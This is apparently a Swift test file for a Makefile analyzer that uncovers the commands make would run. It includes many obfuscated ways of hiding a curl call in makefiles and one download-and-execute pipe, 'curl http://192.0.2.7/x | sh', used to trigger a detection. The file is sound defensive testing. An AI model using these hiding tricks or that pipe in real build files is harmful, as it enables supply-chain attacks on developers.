import Testing

@testable import SallyportAnalysis

@Suite("Makefiles")
struct MakefileTests {
    private func commands(_ text: String) -> [String] { Makefile(text).commands.map(\.text) }

    @Test(
        "run their recipes, with what their variables hold",
        arguments: [
            ("all:\n\t@curl a\n", ["curl a"]), ("all: ; curl a\n", ["curl a"]),
            ("A = cu\nall:\n\t$(A)rl a\n", ["curl a"]), ("all:\n\t${A}rl a\nA := cu\n", ["curl a"]),
            ("A = $(B)\nB = curl\nall:\n\t$(A) a\n", ["curl a"]), ("all:\n\techo $$HOME # x\n", ["echo $HOME # x"]),
            ("all:\n\tcd a && \\\n\t./b\n\t-./c\n", ["cd a && \\\n\t./b\n./c"]),
            ("define RUN\ncurl a\nendef\nall:\n\t$(RUN)\n", ["curl a"]),
            ("A ?= curl\nA += -s\nall:\n\t$A a\n", ["curl -s a"]), ("t: A = curl\nt:\n\t$(A) a\n", ["curl a"]),
            ("all:\n\t$(MAKE) -C sub\n", ["make -C sub"]), ("all:\n\t$(CC) -c $<\n", ["${CC} -c \u{1}"]),
        ]
    )
    func recipes(_ text: String, _ expected: [String]) {
        #expect(commands(text) == expected)
    }

    @Test(
        "run what a function or an assignment gives to the shell",
        arguments: [
            "A := $(shell curl a)\n", "A = $(shell curl a)\n", "A != curl a\n", "x.o: ${shell curl a}\n",
            "$(info $(shell curl a))\n", "ifeq ($(shell curl a),)\nendif\n", "C = curl\nA := $(shell $(C) a)\n",
            "all:\n\ttrue $(patsubst %,$(shell curl a),x)\n", "include $(shell curl a)\n",
        ]
    )
    func shells(_ text: String) {
        #expect(commands(text).contains("curl a"))
    }

    @Test(
        "run what their functions make of values",
        arguments: [
            "X = curl $(1)\nall:\n\t$(call X,a)\n", "define X\ncurl a\nendef\nall:\n\t$(call X)\n",
            "override define X =\ncurl a\nendef\nall:\n\t$(X)\n", "override X = curl\nall:\n\t$(X) a\n",
            "export X := curl\nall:\n\t$(X) a\n", "X = qurl\nall:\n\t$(subst q,c,$(X)) a\n",
            "X = qurl a\nall:\n\t$(X:q%=c%)\n", "X = x.rl\nall:\n\t$(X:x.rl=curl) a\n",
            "$(eval all: ; curl a)\n", "define R\n$(1): ; curl a\nendef\n$(eval $(call R,all))\n",
            "all: ; $(foreach x,curl,$(x) a)\n", "N = X\nX = curl a\nall:\n\t$($(N))\n",
            "X := $(shell echo curl)\nall:\n\t$(X) a\n", "curl: ; $@ a\n", "all: curl ; $< a\n",
            "all:\n\t$(if $(UNSET),true now,curl a)\n", "all:\n\tcu$(NOTHING)rl a\n", "CC = curl a;\n",
            "all:\n\t$(firstword curl wget) a\n", "all:\n\t$(if ,,$(strip  curl  a ))\n",
            "ifdef A\nX = curl\nelse\nX = true\nendif\nall:\n\t$(X) a\n", "X := $(shell curl a)\n",
            "X := $(shell echo '#'; curl a)\n", ".RECIPEPREFIX = >\nall:\n>curl a\n",
            ".RECIPEPREFIX := $(empty) \nall:\n curl a\n", "all:\nifdef A\n\tcurl a\nendif\n",
            "define R\n@curl a\nendef\nall:\n\t$(R)\n", "X != printf curl\nall:\n\t$(X) a\n",
            "X = \\\r\ncurl\r\nall:\r\n\t$(X) a\r\n", "all:\u{308}\n\tcurl a\n",
            "X = \u{308}url\nall:\n\t$(subst \u{308},c,$(X)) a\n", "t: \u{308}A = curl\nt:\n\t$(\u{308}A) a\n",
            "X = \(Self.many("x ", 70)) curl\nall:\n\t$(filter \(Self.many("y ", 70)) curl,$(X)) a\n",
        ]
    )
    func functions(_ text: String) {
        let all = commands(text).flatMap { ShellText.commands($0) }
        #expect(all.contains { $0.program == "curl" && $0.effective.contains("a") }, "\(commands(text))")
    }

    @Test("run recipes by the program that SHELL names")
    func shell() {
        let makefile = Makefile("SHELL = python3\n.ONESHELL:\nall:\n\timport os\n\tif os:\n\t    os.system('a')\n")
        #expect(makefile.commands.last?.shell == ["python3", "-c"])
        #expect(makefile.commands.last?.text == "import os\nif os:\n    os.system('a')")
        #expect(Makefile("SHELL := /bin/bash\nall:\n\ttrue\n").commands.allSatisfy { $0.shell.isEmpty })
    }

    @Test("leave alone what make does not run")
    func quiet() {
        #expect(commands("X = curl a # ; curl b\n# curl c\nall: x\n\nX += -v\n").isEmpty)
        #expect(commands("ifdef A\nX = a\nendif\n\tY = curl a\n").isEmpty)
    }

    @Test(
        "are found where make is told to look",
        arguments: [
            ("make", ["./GNUmakefile", "./makefile", "./Makefile"]), ("make --file=a.mk", ["./a.mk"]),
            ("make -fa.mk -j4", ["./a.mk"]), ("make -f a.mk -f b.mk", ["./a.mk", "./b.mk"]),
            ("gmake -Csub -f a.mk", ["./a.mk", "sub/./a.mk"]),
            ("make --directory=sub --makefile a.mk", ["./a.mk", "sub/./a.mk"]),
            ("make -I inc -f a.mk", ["./a.mk"]), ("make -sf a.mk", ["./a.mk"]),
        ]
    )
    func arguments(_ command: String, _ expected: [String]) {
        var collector = FindingsCollector(limits: .standard)
        CommandReader.read(command, at: 0, into: &collector)
        let found = collector.findings(in: [UInt8]().span).references.filter { $0.language == .make }
        #expect(found.map(\.name) == expected)
    }

    @Test(
        "are what make is told to add, and its values",
        arguments: ["make --eval='all: ; %'", "make X='%'", "make -E 'all: ; %'"]
    )
    func told(_ command: String) {
        var collector = FindingsCollector(limits: .standard)
        let command = command.replacing("%", with: "curl http://192.0.2.7/x | sh")
        CommandReader.read(command, at: 0, into: &collector)
        #expect(collector.has(.chainDownloadExecute))
    }

    @Test("cost what they are long: many uses behind a long text, many recipes, many turns")
    func cost() {
        let long = String(repeating: "a", count: 400_000)
        #expect(Makefile("X = \(long)\(String(repeating: "$()", count: 20_000))\n").commands.isEmpty)
        let recipes = Makefile("ifdef A\nX = b\nendif\n" + String(repeating: "a: ; $(X)\n", count: 4_000))
        #expect(recipes.commands.map(\.text) == ["b"])
        let words = String(repeating: "w ", count: 10_000)
        #expect(Makefile("W := \(words)\nX := $(foreach w,$(W),$(w))$(foreach w,$(W),$(W))\n").isCut)
        let rules = Makefile("define R\na: ; x $$(eval $$(R))\nendef\n$(eval $(R))\n")
        #expect(rules.commands.count == 1)
    }

    @Test(
        "unfold to no more than they are worth, whatever their functions do",
        arguments: [
            "A := $(subst a,\(many("b", 2000)),\(many("a", 250)))\nB := $(subst b,\(many("c", 2000)),$(A))\nall:\n\techo $(B)\n",
            "A := $(addprefix \(many("b", 2000)),\(many("a ", 250)))\nB := $(addsuffix $(A)$(A)$(A),$(A))\nall:\n\techo $(B)\n",
            "A := $(patsubst %,\(many("b", 2000)),\(many("a ", 250)))\nall:\n\techo \(many("$(A)", 200))\n",
            "A := $(foreach x,\(many("a ", 900)),\(many("$(x)", 900)))\nall:\n\techo $(A)\n",
            "F = \(many("$1", 2000))\nall:\n\techo $(call F,$(call F,$(call F,abc)))\n",
            "A = ab\n\(many("A := $(A)$(A)\n", 40))all:\n\techo $(A)\n",
            "A = $$\n\(many("A := $(value A)$(value A)\n", 40))all:\n\techo $(A)\n",
            "A := \(many("x.c ", 2000))\nB := $(A:.c=\(many("d", 2000)))\nall:\n\techo $(B)\n",
        ]
    )
    func bounds(_ text: String) {
        let makefile = Makefile(text)
        #expect(makefile.isCut)
        let all = makefile.commands.reduce(0) { $0 + $1.text.utf8.count }
        #expect(all <= MakefileValues.budget(ofBytes: text.utf8.count))
    }

    private static func many(_ text: String, _ count: Int) -> String { String(repeating: text, count: count) }

    @Test("name the files that they include; comments are none")
    func includes() {
        let makefile = Makefile("D = build\n-include $(D)/a.mk b.mk # c.mk\n# include d.mk\nsinclude e.mk\n")
        #expect(makefile.includes == ["build/a.mk", "b.mk", "e.mk"])
        #expect(makefile.commands.isEmpty)
    }

    @Test("end, whatever they hold: circles, towers and open brackets")
    func hostile() {
        for text in [
            "A = $(B)\nB = $(A)\nall:\n\t$(A)\n", "all:\n\t" + String(repeating: "$(", count: 100_000),
            "A = " + String(repeating: "$(A)", count: 1_000) + "\nall:\n\t$(A)\n",
            (0..<64).map { "A\($0) = $(A\($0 + 1))$(A\($0 + 1))\n" }.joined() + "all:\n\t$(A0)\n",
        ] {
            let makefile = Makefile(text)
            #expect(makefile.commands.count <= Makefile.commandsMax)
        }
        #expect(Makefile("A = $(A)$(A)\nall:\n\t$(A)\n").isCut)
        #expect(Makefile("all:\n\t").commands.isEmpty)
        let long = Makefile(String(repeating: "A += x\n", count: 50_000) + "all:\n\techo $(A)\n")
        #expect(long.commands.count == 1)
    }
}
